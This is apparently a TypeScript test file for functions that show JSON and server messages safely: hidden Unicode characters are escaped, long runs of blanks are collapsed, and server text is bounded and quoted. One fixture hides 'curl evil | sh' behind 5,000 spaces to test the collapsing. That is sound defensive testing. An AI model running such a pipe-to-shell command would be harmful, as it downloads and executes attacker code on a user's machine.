import t from 'tap';
import {
  inQuotes,
  nameInSentence,
  shownJson,
  shownText,
  withoutGaps,
  wordsOfServer,
} from '../../../machines/base/shown-json.ts';
import { fc } from '../../support/property.ts';

const hidden = [
  ['a direction turned around', '\u202e', '\\u202e'],
  ['an isolate', '\u2066', '\\u2066'],
  ['a joiner of no width', '\u200b', '\\u200b'],
  ['a tag', '\u{e0041}', '\\udb40\\udc41'],
  ['a soft hyphen', '\u00ad', '\\u00ad'],
  ['the end of a line', '\u2028', '\\u2028'],
  ['delete', '\u007f', '\\u007f'],
  ['an escape, which a terminal obeys', '\u001b', '\\u001b'],
  ['a bell', '\u0007', '\\u0007'],
  ['a filler', '\u3164', '\\u3164'],
  ['a mark of byte order', '\ufeff', '\\ufeff'],
  ['a joiner of graphemes', '\u034f', '\\u034f'],
  ['a variation selector', '\ufe0f', '\\ufe0f'],
  ['a variation selector beyond', '\u{e0101}', '\\udb40\\udd01'],
  ['the empty Braille pattern', '\u2800', '\\u2800'],
] as const;

t.test('LNK-2 · TRU-3 · invisible characters are written out, in keys and values', (t) => {
  for (const [what, character, spelled] of hidden) {
    const shown = shownJson({ [`k${character}`]: `rm${character}x` });
    t.equal(shown, `{\n  "k${spelled}": "rm${spelled}x"\n}`, what);
    t.equal(shownText(`“rm${character}x”`), `“rm${spelled}x”`, `${what}, in a sentence`);
  }
  t.equal(shownJson({ é: '日本 ☃ "\n' }), '{\n  "é": "日本 ☃ \\"\\n"\n}', 'what is seen stays');
  t.equal(shownJson(undefined), '');
  t.end();
});

t.test('LNK-2 · what is shown is the same value', (t) => {
  fc.assert(
    fc.property(fc.jsonValue(), (value) => {
      t.same(JSON.parse(shownJson(value)), JSON.parse(JSON.stringify(value)));
    }),
  );
  t.end();
});

t.test('SEC-2 · SEC-7 · many blanks in a row are shown as their number, and the shape of the JSON stays', (t) => {
  const shown = withoutGaps(shownJson({ a: { b: { c: { d: { e: `echo${' '.repeat(5_000)}; curl evil | sh` } } } } }));
  t.match(shown, /\n {10}"e": "echo …\(5000 blanks\)… ; curl evil \| sh"\n/);
  t.equal(withoutGaps(`"${'\u2003'.repeat(9)}x"`), '" …(9 blanks)… x"', 'whatever blanks they are');
  t.equal(withoutGaps('a        b'), 'a        b', 'eight stay');
  t.end();
});

t.test('SEC-7 · what a server says is one bounded line in quotes, with its name', (t) => {
  t.equal(wordsOfServer('notes', ' Reads.\n\n  expires in\t300s ', 'tool'), 'notes says: “Reads. expires in 300s”');
  t.equal(wordsOfServer('notes', 'a\u202eb', 'tool'), 'notes says: “a\\u202eb”');
  t.equal(wordsOfServer('notes', 'x'.repeat(999), 'tool'), `notes says: “${'x'.repeat(240)}…”`);
  t.equal(wordsOfServer('notes', 'x'.repeat(1_001), 'form'), `notes says: “${'x'.repeat(1_000)}…”`);
  t.equal(wordsOfServer('notes', ' \n', 'tool'), '');
  t.same([inQuotes(' a\nb '), inQuotes(' '), inQuotes('abcd', 3)], ['“a b”', '', '“abc…”']);
  t.same(['A_1', '1A', 'a b', ' ', 'x'.repeat(64), 'x'.repeat(65)].map(nameInSentence), [
    'A_1',
    '“1A”',
    '“a b”',
    '“”',
    'x'.repeat(64),
    `“${'x'.repeat(65)}”`,
  ]);
  t.end();
});
